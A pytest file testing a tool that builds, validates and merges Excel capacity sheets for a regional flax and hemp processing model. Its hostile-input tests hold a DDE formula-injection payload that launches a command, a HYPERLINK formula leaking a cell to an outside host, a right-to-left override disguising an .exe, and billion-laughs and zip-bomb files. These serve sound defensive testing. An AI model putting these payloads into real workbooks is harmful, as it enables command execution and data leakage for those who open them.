"""Capacity sheets: template, check, annotate, merge, hostile input, fuzzing, LibreOffice."""
from __future__ import annotations

import datetime as dt
import hashlib
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, Phase, given, settings, strategies as st
from openpyxl import load_workbook

from nabb.capacity.check import check_files
from nabb.capacity.lists import read_scenario_lists
from nabb.capacity.merge import merge
from nabb.capacity.provenance import PROVENANCE_PREFIX, parse_provenance
from nabb.capacity.template import write_capacity_template
from nabb.cli.capacity import capacity, template_capacity
from nabb.errors import InputError, Issue
from nabb.io.template import write_input_workbook
from tests.test_preflight import BILLION_LAUGHS, _ole2, rezip, sheet_xml, with_prolog

HYPERLINK = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
CMD = "+cmd|' /C calc'!A0"


# ============================================================================ fixtures
@pytest.fixture(scope="module")
def scenario(tmp_path_factory) -> Path:
    """A small scenario workbook: the lists a capacity sheet may use."""
    path = tmp_path_factory.mktemp("scenario") / "scenario.xlsx"
    write_input_workbook(path, {
        "regions": pd.DataFrame({"region": ["GR", "FR", "NA"],
                                 "name": ["Groningen", "Fryslân", "Noord-Achterhoek"]}),
        "processes": pd.DataFrame({"process": ["scutching", "decortication", "insulation_board"]}),
        "crops": pd.DataFrame({"crop": ["flax", "hemp"]}),
        "policy": pd.DataFrame({"year": list(range(2025, 2036))}),
        "capacity": pd.DataFrame({"plant": ["Base mill Fryslân", "Oude zwingelarij"],
                                  "region": ["FR", "GR"], "process": ["scutching", "scutching"],
                                  "capacity_t_per_yr": [5000.0, 3000.0],
                                  "status": ["existing", "existing"]}),
    })
    return path


@pytest.fixture(scope="module")
def blank(scenario, tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("blank") / "blank_GR.xlsx"
    write_capacity_template(path, region="GR", workbook=scenario)
    return path


EXISTING = [("Vlasfabriek Nij Beets", "scutching", 20000, 1998, 0.8),
            ("Hennepverwerker Oost", "decortication", 15000, 2015, None)]
PLANNED = [("Isolatiefabriek Delfzijl", "insulation_board", 30000, 2028, "financed")]
AREAS = [("flax", 2026, 1200), ("hemp", 2027, 800.5)]


def fill(blank: Path, out: Path, *, region="GR", coordinator="Jan de Vries",
         date=dt.date(2026, 3, 1), existing=EXISTING, planned=PLANNED, areas=AREAS,
         edit=None) -> Path:
    """A filled-in capacity sheet; ``edit(wb)`` makes it bad."""
    wb = load_workbook(blank)
    c = wb["coordinator"]
    c["B3"], c["B4"], c["B5"], c["B6"] = region, coordinator, "jan@example.org", date
    for name, rows in (("existing_plants", existing), ("planned_plants", planned),
                       ("contracted_area", areas)):
        ws = wb[name]
        for r, row in enumerate(rows, start=3):
            for j, v in enumerate(row, start=1):
                ws.cell(row=r, column=j, value=v)
    if edit:
        edit(wb)
    wb.save(out)
    return out


def issues_of(path: Path, scenario: Path, **kw) -> list[Issue]:
    return check_files([path], workbook=scenario, **kw)


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def run(cmd, args):
    result = CliRunner().invoke(cmd, [str(a) for a in args])
    # never a traceback: any exception other than the exit is a bug
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    assert "Traceback" not in result.output
    return result


def table(path: Path, sheet: str) -> list[tuple]:
    wb = load_workbook(path)
    ws = wb[sheet]
    head = [c.value for c in ws[1]]
    rows = []
    for row in ws.iter_rows(min_row=3, values_only=True):
        if any(v is not None for v in row):
            rows.append(dict(zip(head, row)))
    return rows


# ============================================================================ template
def test_template_layout(blank):
    wb = load_workbook(blank)
    assert wb.sheetnames == ["instructions", "coordinator", "existing_plants", "planned_plants",
                             "contracted_area", "lists"]
    ws = wb["existing_plants"]
    assert [c.value for c in ws[1]] == ["plant", "process", "capacity_t_per_yr",
                                        "commissioning_year", "utilisation_last_year"]
    assert ws["C2"].value == "[t/yr]"
    # header rows protected, data rows free
    assert ws.protection.sheet and ws["A1"].protection.locked and ws["A2"].protection.locked
    assert not ws["A3"].protection.locked
    dvs = {str(d.sqref): d.formula1 for d in wb["planned_plants"].data_validations.dataValidation}
    assert dvs["E3:E302"] == '"idea,planned,financed,under_construction"'
    assert dvs["B3:B302"].endswith("$A$3:$A$5")
    assert [wb["lists"].cell(row=r, column=1).value for r in (3, 4, 5)] == \
        ["scutching", "decortication", "insulation_board"]
    assert wb["coordinator"]["B3"].value == "GR"
    text = " ".join(str(c.value) for row in wb["instructions"].iter_rows() for c in row if c.value)
    for col in ("plant", "capacity_t_per_yr", "utilisation_last_year", "status", "area_ha",
                "coordinator", "contact"):
        assert col in text


def test_scenario_workbook_without_a_list_sheet_is_an_input_error(scenario, tmp_path):
    """A scenario workbook without its crops sheet: one issue naming the sheet (it used to
    crash with UnboundLocalError when the sheet list was formatted)."""
    wb = load_workbook(scenario)
    del wb["crops"]
    broken = tmp_path / "no_crops.xlsx"
    wb.save(broken)
    with pytest.raises(InputError) as err:
        read_scenario_lists(broken)
    [issue] = err.value.issues
    assert (issue.file, issue.sheet, issue.expected) == ("no_crops.xlsx", "crops",
                                                          "a sheet named 'crops'")
    assert issue.found.startswith("sheets ") and "regions" in issue.found.split(", ")
    assert "crops" not in issue.found.split(", ")


def test_template_cli(scenario, tmp_path):
    out = tmp_path / "fr.xlsx"
    r = run(template_capacity, [out, "--region", "Fryslân", "--workbook", scenario])
    assert r.exit_code == 0, r.output
    assert load_workbook(out)["coordinator"]["B3"].value == "FR"
    bad = tmp_path / "xx.xlsx"
    r = run(template_capacity, [bad, "--region", "Atlantis", "--workbook", scenario])
    assert r.exit_code == 2 and "Atlantis" in r.output and not bad.exists()
    assert "--region" in run(template_capacity, ["--help"]).output


def test_filled_template_is_clean(blank, scenario, tmp_path):
    path = fill(blank, tmp_path / "gr.xlsx")
    assert issues_of(path, scenario) == []
    r = run(capacity, ["check", path, "--workbook", scenario, "--strict"])
    assert r.exit_code == 0 and "gr.xlsx: OK" in r.output


# ============================================================================ check
def _set(sheet, ref, value, data_type=None):
    def edit(wb):
        wb[sheet][ref] = value
        if data_type:
            wb[sheet][ref].data_type = data_type
    return edit


def _merge(sheet, rng):
    return lambda wb: wb[sheet].merge_cells(rng)


def _hide_extra(wb):
    ws = wb.create_sheet("Capacity_old")
    ws["A1"] = "old numbers"
    ws.sheet_state = "hidden"


CASES = [
    # (name, edit, sheet, cell, severity, words in the message)
    ("negative capacity", _set("existing_plants", "C3", -5), "existing_plants", "C3", "error",
     [">= 0", "-5"]),
    ("unknown process", _set("existing_plants", "B3", "scutchng"), "existing_plants", "B3",
     "error", ["did you mean 'scutching'"]),
    ("planned year outside horizon", _set("planned_plants", "D3", 2060), "planned_plants", "D3",
     "error", ["2025-2035", "2060"]),
    ("area year outside horizon", _set("contracted_area", "B3", 2020), "contracted_area", "B3",
     "error", ["horizon"]),
    ("decimal comma", _set("existing_plants", "C4", "1,5"), "existing_plants", "C4", "error",
     ["decimal comma", "'1,5'"]),
    ("year typed as text", _set("planned_plants", "D3", "2030 "), "planned_plants", "D3", "error",
     ["year typed as a number"]),
    ("duplicate plant", _set("planned_plants", "A3", "vlasfabriek  nij beets"), "planned_plants",
     "A3", "error", ["existing_plants!A3"]),
    ("status not in list", _set("planned_plants", "E3", "maybe"), "planned_plants", "E3", "error",
     ["idea, planned, financed, under_construction", "'maybe'"]),
    ("formula without cached value", _set("existing_plants", "C3", "=C4*2"), "existing_plants",
     "C3", "error", ["=C4*2", "no saved result"]),
    ("cached Excel error", _set("existing_plants", "C3", "#DIV/0!", "e"), "existing_plants", "C3",
     "error", ["#DIV/0!"]),
    ("merged cells", _merge("existing_plants", "B3:B4"), "existing_plants", "B3:B4", "error",
     ["unmerge"]),
    ("hidden sheet with data", _hide_extra, "Capacity_old", "", "warning", ["hidden", "ignored"]),
    ("non-breaking spaces", _set("existing_plants", "A3", "Vlasfabriek\u00a0Nij Beets "),
     "existing_plants", "A3", "warning", ["read as 'Vlasfabriek Nij Beets'", "\\xa0"]),
    ("percent as whole number", _set("existing_plants", "E3", 85), "existing_plants", "E3",
     "error", ["85% is 0.85"]),
    ("units changed", _set("existing_plants", "C2", "[kt/yr]"), "existing_plants", "C2", "error",
     ["[t/yr]", "kt/yr"]),
    ("unknown crop", _set("contracted_area", "A3", "kenaf"), "contracted_area", "A3", "error",
     ["crop"]),
    ("status near miss", _set("planned_plants", "E3", "Under construction"), "planned_plants", "E3",
     "warning", ["read as 'under_construction'"]),
    ("missing required value", _set("existing_plants", "B4", None), "existing_plants", "B4",
     "error", ["empty cell"]),
    ("ambiguous date", _set("coordinator", "B6", "01/02/2026"), "coordinator", "B6", "error",
     ["2026-03-01"]),
    ("direction override", _set("existing_plants", "A4", "Mill\u202eslx.exe"), "existing_plants",
     "A4", "error", ["direction marks"]),
    ("formula in a name", _set("existing_plants", "A4", "=A3&\"x\""), "existing_plants", "A4",
     "error", ["not a formula"]),
]


@pytest.mark.parametrize("name,edit,sheet,cell,severity,words", CASES, ids=[c[0] for c in CASES])
def test_check_finds(name, edit, sheet, cell, severity, words, blank, scenario, tmp_path):
    path = fill(blank, tmp_path / "bad.xlsx", edit=edit)
    issues = issues_of(path, scenario)
    hits = [i for i in issues if i.sheet == sheet and i.cell == cell and i.severity == severity]
    assert hits, issues
    text = " ".join(str(i) for i in hits)
    for w in words:
        assert w in text, text
    assert all(i.file == "bad.xlsx" for i in issues)


def test_hidden_template_sheet_is_read_with_a_warning(blank, scenario, tmp_path):
    path = fill(blank, tmp_path / "vh.xlsx",
                edit=lambda wb: setattr(wb["planned_plants"], "sheet_state", "veryHidden"))
    issues = issues_of(path, scenario)
    assert [(i.sheet, i.severity) for i in issues] == [("planned_plants", "warning")]
    assert "veryHidden" in issues[0].found


def test_region_na_stays_na(blank, scenario, tmp_path):
    path = fill(blank, tmp_path / "na.xlsx", region="NA",
                existing=[("Achterhoekse vezel", "scutching", 100, 2001, None)], planned=[])
    assert issues_of(path, scenario) == []
    out = tmp_path / "merged.xlsx"
    merge([path], scenario, out)
    rows = [r for r in table(out, "capacity") if r["plant"] == "Achterhoekse vezel"]
    assert rows[0]["region"] == "NA"


def test_every_problem_reported_at_once(blank, scenario, tmp_path):
    def edit(wb):
        for e in (CASES[0][1], CASES[2][1], CASES[4][1], CASES[7][1], CASES[10][1]):
            e(wb)
    path = fill(blank, tmp_path / "many.xlsx", edit=edit)
    r = run(capacity, ["check", path, "--workbook", scenario])
    assert r.exit_code == 2
    for ref in ("existing_plants:C3", "planned_plants:D3", "existing_plants:C4",
                "planned_plants:E3", "existing_plants:B3:B4"):
        assert ref in r.output, r.output


def test_exit_codes_for_warnings(blank, scenario, tmp_path):
    path = fill(blank, tmp_path / "warn.xlsx", edit=CASES[12][1])  # NBSP: a warning only
    assert run(capacity, ["check", path, "--workbook", scenario]).exit_code == 0
    r = run(capacity, ["check", path, "--workbook", scenario, "--strict"])
    assert r.exit_code == 1 and "WARNING" in r.output


def test_annotate_marks_cells_and_keeps_original(blank, scenario, tmp_path):
    def edit(wb):
        wb["existing_plants"]["A3"].value = HYPERLINK
        wb["existing_plants"]["A3"].data_type = "s"
        wb["existing_plants"]["A4"].value = CMD
        wb["existing_plants"]["C4"] = "1,5"
        wb["planned_plants"]["E3"] = "maybe"
    path = fill(blank, tmp_path / "gr.xlsx", edit=edit)
    before = sha(path)
    out = tmp_path / "gr.checked.xlsx"
    r = run(capacity, ["check", path, "--workbook", scenario, "--annotate", out])
    assert r.exit_code == 2 and out.exists()
    assert sha(path) == before
    wb = load_workbook(out)
    c = wb["existing_plants"]["C4"]
    assert c.fill.fgColor.rgb.endswith("FFC7CE") and "decimal comma" in c.comment.text
    assert "maybe" in wb["planned_plants"]["E3"].comment.text
    assert wb.sheetnames[0] == "nabb_check"
    assert_no_formulas(out)
    assert wb["existing_plants"]["A3"].value == HYPERLINK
    assert wb["existing_plants"]["A4"].value == CMD and wb["existing_plants"]["A4"].quotePrefix
    # refuses to overwrite the input
    r = run(capacity, ["check", path, "--workbook", scenario, "--annotate", path])
    assert r.exit_code == 2 and sha(path) == before


def assert_no_formulas(path: Path) -> None:
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(path) as z:
        assert not any(n.endswith("vbaProject.bin") for n in z.namelist())
        for n in z.namelist():
            if n.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(n) and b"<f " not in z.read(n)


# ============================================================================ hostile files
def _hostile(kind: str, blank: Path, tmp_path: Path) -> Path:
    good = fill(blank, tmp_path / "good.xlsx")
    target = tmp_path / f"{kind}.xlsx"
    if kind == "laughs":
        xml = sheet_xml(good)
        return rezip(good, target, {"xl/worksheets/sheet1.xml": with_prolog(xml, BILLION_LAUGHS)})
    if kind == "bomb":
        xml = sheet_xml(good).replace(b"<sheetData>", b"<sheetData>" + b" " * (20 * 2**20), 1)
        return rezip(good, target, {"xl/worksheets/sheet1.xml": xml})
    if kind == "xfd":
        wb = load_workbook(good)
        wb["existing_plants"]["XFD1048576"] = 1
        wb.save(target)
        return target
    if kind == "truncated":
        target.write_bytes(good.read_bytes()[:5000])
        return target
    if kind == "csv":
        target.write_text("plant,process,capacity_t_per_yr\nmill,scutching,\"1,5\"\n")
        return target
    if kind == "encrypted":
        target.write_bytes(_ole2("EncryptedPackage".encode("utf-16-le")))
        return target
    if kind == "xls":
        target.write_bytes(_ole2())
        return target
    raise AssertionError(kind)


@pytest.mark.parametrize("kind,words", [
    ("laughs", ["DTD"]), ("bomb", ["zip bomb"]), ("xfd", ["XFD", "existing_plants"]),
    ("truncated", ["damaged or incomplete"]), ("csv", ["CSV"]),
    ("encrypted", ["password-protected"]), ("xls", ["legacy"])])
def test_hostile_file_is_one_clear_error(kind, words, blank, scenario, tmp_path):
    path = _hostile(kind, blank, tmp_path)
    before = sha(path)
    r = run(capacity, ["check", path, "--workbook", scenario])
    assert r.exit_code == 2, r.output
    lines = [ln for ln in r.output.splitlines() if ln.strip().startswith("ERROR")]
    assert len(lines) == 1, r.output
    for w in words:
        assert w in lines[0], lines[0]
    assert f"{kind}.xlsx" in lines[0]
    out = tmp_path / "merged.xlsx"
    r = run(capacity, ["merge", path, "--into", scenario, "-o", out])
    assert r.exit_code == 2 and not out.exists()
    ann = tmp_path / "ann.xlsx"
    r = run(capacity, ["check", path, "--workbook", scenario, "--annotate", ann])
    assert r.exit_code == 2
    listed = load_workbook(ann)["nabb_check"]
    assert listed["A2"].value == "error" and words[0] in listed["G2"].value
    assert sha(path) == before


def test_macro_sheet_is_read_and_outputs_have_no_macros(blank, scenario, tmp_path):
    good = fill(blank, tmp_path / "good.xlsx")
    xlsm = rezip(good, tmp_path / "gr.xlsm", add={"xl/vbaProject.bin": b"\x00VBA" * 50})
    issues = issues_of(xlsm, scenario)
    assert [i.severity for i in issues] == ["warning"] and "never run" in issues[0].found
    out = tmp_path / "merged.xlsx"
    merge([xlsm], scenario, out)
    assert_no_formulas(out)
    ann = tmp_path / "ann.xlsx"
    assert run(capacity, ["check", xlsm, "--workbook", scenario, "--annotate", ann]).exit_code == 0
    assert_no_formulas(ann)


# ============================================================================ merge
def test_merge_with_provenance_and_idempotent(blank, scenario, tmp_path):
    path = fill(blank, tmp_path / "groningen_2026.xlsx")
    scen_before = sha(scenario)
    out = tmp_path / "new.xlsx"
    r = run(capacity, ["merge", path, "--into", scenario, "-o", out])
    assert r.exit_code == 0, r.output
    assert "added plant 'Vlasfabriek Nij Beets'" in r.output
    assert sha(scenario) == scen_before
    cap = {r["plant"]: r for r in table(out, "capacity")}
    row = cap["Isolatiefabriek Delfzijl"]
    assert (row["region"], row["status"], row["commissioning_year"], row["capacity_t_per_yr"]) \
        == ("GR", "financed", 2028, 30000)
    prov = parse_provenance(row["provenance"])
    assert prov == {"file": "groningen_2026.xlsx", "sha": sha(path),
                    "coordinator": "Jan de Vries", "date": "2026-03-01"}
    assert cap["Base mill Fryslân"]["provenance"] in (None, "")  # base rows untouched
    areas = table(out, "contracted_area")
    assert {(a["region"], a["crop"], a["year"], a["area_ha"]) for a in areas} == \
        {("GR", "flax", 2026, 1200), ("GR", "hemp", 2027, 800.5)}
    assert all(a["provenance"].startswith(PROVENANCE_PREFIX) for a in areas)
    # the same sheet again: nothing changes
    out2 = tmp_path / "new2.xlsx"
    r = run(capacity, ["merge", path, "--into", out, "-o", out2])
    assert r.exit_code == 0 and "already merged" in r.output and "no changes" in r.output
    assert table(out2, "capacity") == table(out, "capacity")
    assert table(out2, "contracted_area") == table(out, "contracted_area")
    # the merged workbook still reads as a scenario workbook
    assert "GR" in read_scenario_lists(out2).regions
    # merged rows point at one sources row per sheet, which names the coordinator and hash
    sources = {s["source_id"]: s for s in table(out, "sources")}
    assert row["source"] in sources
    assert sources[row["source"]]["publisher"] == "Jan de Vries"
    assert sha(path) in sources[row["source"]]["note"]
    assert table(out2, "sources") == table(out, "sources")


def test_newer_sheet_replaces_older_and_lists_changes(blank, scenario, tmp_path):
    v1 = fill(blank, tmp_path / "gr_v1.xlsx")
    out1 = tmp_path / "s1.xlsx"
    merge([v1], scenario, out1)
    v2 = fill(blank, tmp_path / "gr_v2.xlsx", date=dt.date(2027, 2, 1),
              existing=[("Vlasfabriek Nij Beets", "scutching", 25000, 1998, 0.9),
                        ("Oude zwingelarij", "scutching", 3500, 1960, None)],
              planned=[("Nieuwe hennepfabriek", "decortication", 12000, 2029, "planned")],
              areas=[("flax", 2026, 1500)])
    out2 = tmp_path / "s2.xlsx"
    r = run(capacity, ["merge", v2, "--into", out1, "-o", out2])
    assert r.exit_code == 0, r.output
    for text in ("plant 'Vlasfabriek Nij Beets': capacity_t_per_yr 20000 -> 25000",
                 "removed plant 'Hennepverwerker Oost'", "removed plant 'Isolatiefabriek Delfzijl'",
                 "added plant 'Nieuwe hennepfabriek'", "contracted area flax 2026: area_ha 1200 -> 1500",
                 "removed contracted area hemp 2027", "'Oude zwingelarij' now comes from the capacity sheet"):
        assert text in r.output, r.output
    cap = {r["plant"]: r for r in table(out2, "capacity")}
    assert "Hennepverwerker Oost" not in cap and cap["Vlasfabriek Nij Beets"]["capacity_t_per_yr"] == 25000
    assert parse_provenance(cap["Oude zwingelarij"]["provenance"])["file"] == "gr_v2.xlsx"
    assert len([p for p in cap.values() if p["region"] == "GR"]) == 3
    assert "Base mill Fryslân" in cap
    # the older sheet cannot come back
    out3 = tmp_path / "s3.xlsx"
    r = run(capacity, ["merge", v1, "--into", out2, "-o", out3])
    assert r.exit_code == 2 and "newer" in r.output and not out3.exists()
    # two sheets of one region in one merge: the newer wins
    out4 = tmp_path / "s4.xlsx"
    r = run(capacity, ["merge", v1, v2, "--into", scenario, "-o", out4])
    assert r.exit_code == 0 and "replaced by gr_v2.xlsx" in r.output
    assert {p["plant"] for p in table(out4, "capacity") if p["region"] == "GR"} == set(cap) - {"Base mill Fryslân"}


def test_same_plant_in_two_sheets_is_a_conflict(blank, scenario, tmp_path):
    gr = fill(blank, tmp_path / "gr.xlsx")
    fr = fill(blank, tmp_path / "fr.xlsx", region="FR", coordinator="Sjoukje",
              existing=[("Vlasfabriek Nij Beets", "scutching", 1, 1990, None)], planned=[], areas=[])
    out = tmp_path / "out.xlsx"
    r = run(capacity, ["merge", gr, fr, "--into", scenario, "-o", out])
    assert r.exit_code == 2 and "claimed by one sheet only" in r.output
    assert not out.exists() and not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
    # also against a plant the workbook holds for another region
    fr2 = fill(blank, tmp_path / "fr2.xlsx", region="FR", coordinator="Sjoukje",
               existing=[("Oude zwingelarij", "scutching", 1, 1990, None)], planned=[], areas=[])
    r = run(capacity, ["merge", fr2, "--into", scenario, "-o", out])
    assert r.exit_code == 2 and "for region GR" in r.output and not out.exists()
    assert run(capacity, ["check", gr, fr, "--workbook", scenario]).exit_code == 2


def test_merge_refuses_errors_and_overwriting_inputs(blank, scenario, tmp_path):
    bad = fill(blank, tmp_path / "bad.xlsx", edit=CASES[0][1])
    out = tmp_path / "out.xlsx"
    r = run(capacity, ["merge", bad, "--into", scenario, "-o", out])
    assert r.exit_code == 2 and "bad.xlsx:existing_plants:C3" in r.output and not out.exists()
    good = fill(blank, tmp_path / "good.xlsx")
    copy = tmp_path / "scenario.xlsx"
    shutil.copy(scenario, copy)
    before = sha(copy)
    r = run(capacity, ["merge", good, "--into", copy, "-o", copy])
    assert r.exit_code == 2 and "never modified" in r.output and sha(copy) == before


def _as_text(*refs):
    def edit(wb):
        for ref in refs:
            sheet, cell = ref.split("!")
            wb[sheet][cell].data_type = "s"
    return edit


def test_formula_injection_stays_text_in_merge(blank, scenario, tmp_path):
    path = fill(blank, tmp_path / "inj.xlsx", coordinator="=HYPERLINK(\"x\")",
                existing=[(HYPERLINK, "scutching", 1, 2000, None), (CMD, "scutching", 2, 2000, None),
                          ("-North", "scutching", 3, 2000, None), ("@SUM(1)", "scutching", 4, 2000, None)],
                edit=_as_text("existing_plants!A3", "coordinator!B4"))
    assert [i for i in issues_of(path, scenario) if i.severity == "error"] == []
    out = tmp_path / "merged.xlsx"
    merge([path], scenario, out)
    assert_no_formulas(out)
    plants = {r["plant"] for r in table(out, "capacity")}
    assert {HYPERLINK, CMD, "-North", "@SUM(1)"} <= plants


# ============================================================================ fuzzing
_values = st.one_of(
    st.none(), st.booleans(), st.integers(-10**12, 10**12),
    st.floats(allow_nan=True, allow_infinity=True), st.text(max_size=30),
    st.sampled_from(["1,5", "NA", "=1+1", "=C3*2", "#N/A", "\u00a0", "2030 ", "financed",
                     "scutching", "flax", HYPERLINK, CMD, "\u202eevil", "x" * 300]),
    st.dates(dt.date(1800, 1, 1), dt.date(2200, 1, 1)))
_cells = st.tuples(st.sampled_from(["coordinator", "existing_plants", "planned_plants",
                                    "contracted_area", "lists", "instructions"]),
                   st.integers(1, 8), st.integers(1, 7), _values)


# deterministic and without shrinking so that CI stays fast and stable; raise
# max_examples (and drop derandomize) for a longer fuzz run
@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck),
          derandomize=True, phases=[Phase.explicit, Phase.reuse, Phase.generate])
@given(edits=st.lists(_cells, max_size=8), flips=st.lists(st.integers(0, 10**6), max_size=3),
       merge_range=st.booleans())
def test_fuzz_check_only_reports_issues(edits, flips, merge_range, blank, scenario, tmp_path_factory):
    tmp = tmp_path_factory.mktemp("fuzz")

    def edit(wb):
        for sheet, r, c, v in edits:
            cell = wb[sheet].cell(row=r, column=c)
            try:
                cell.value = v
            except Exception:  # noqa: BLE001 - openpyxl refuses some values: not our concern
                cell._value, cell.data_type = None, "n"  # a half-set cell would break saving
        if merge_range:
            wb["existing_plants"].merge_cells("A3:B3")

    path = fill(blank, tmp / "fuzz.xlsx", edit=edit)
    if flips:
        data = bytearray(path.read_bytes())
        for f in flips:
            data[f % len(data)] ^= 0xA5
        path.write_bytes(bytes(data))
    try:
        issues = check_files([path], workbook=scenario)
    except InputError:  # the tool's own error only
        return
    assert all(isinstance(i, Issue) for i in issues)


# ============================================================================ LibreOffice
def test_libreoffice_round_trip_keeps_validation_lists(blank, scenario, tmp_path):
    if os.environ.get("NABB_SKIP_LIBREOFFICE") == "1":
        pytest.skip("NABB_SKIP_LIBREOFFICE=1")
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, "LibreOffice is needed (apt-get install libreoffice-calc; see .ci/apt-packages.txt)"
    filled = fill(blank, tmp_path / "filled.xlsx")
    outdir = tmp_path / "lo"
    subprocess.run([soffice, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
                    "--headless", "--norestore", "--convert-to", "xlsx", "--outdir", str(outdir),
                    str(filled)], check=True, capture_output=True, timeout=120)
    saved = outdir / "filled.xlsx"
    assert saved.exists()

    def lists(path):
        wb = load_workbook(path)
        return {(ws.title, str(d.sqref)): (d.type, d.formula1.replace("'", "").split("!")[-1])
                for ws in wb.worksheets for d in ws.data_validations.dataValidation}

    before, after = lists(filled), lists(saved)
    list_dvs = {k: v for k, v in before.items() if v[0] == "list"}
    assert len(list_dvs) == 5
    for key, value in list_dvs.items():
        assert after.get(key) == value, (key, after)
    # the data survive and the saved file checks clean (same coordinator date: new name)
    assert check_files([saved], workbook=scenario) == []
    assert load_workbook(saved)["existing_plants"].protection.sheet


def test_merge_warns_when_a_new_plant_looks_like_an_existing_one(blank, scenario, tmp_path):
    """'Oude zwingelarij Winschoten' next to the base row 'Oude zwingelarij' (same region and
    process) is probably the same mill: the merge says so instead of silently doubling it."""
    path = fill(blank, tmp_path / "gr.xlsx",
                existing=[("Oude zwingelarij Winschoten", "scutching", 3000, 1990, 0.9)])
    out = tmp_path / "new.xlsx"
    r = run(capacity, ["merge", path, "--into", scenario, "-o", out])
    assert r.exit_code == 0, r.output
    assert "Oude zwingelarij" in r.output and "doubling" in r.output
